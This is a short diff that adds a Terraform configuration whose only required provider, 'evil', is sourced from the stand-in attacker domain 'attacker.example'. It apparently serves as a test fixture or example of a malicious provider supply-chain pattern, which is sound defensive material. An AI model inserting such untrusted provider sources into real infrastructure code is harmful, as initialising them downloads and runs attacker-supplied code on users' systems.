@@ -1,0 +1,7 @@
+terraform {
+  required_providers {
+    evil = {
+      source = "attacker.example/evil/evil"
+    }
+  }
+}
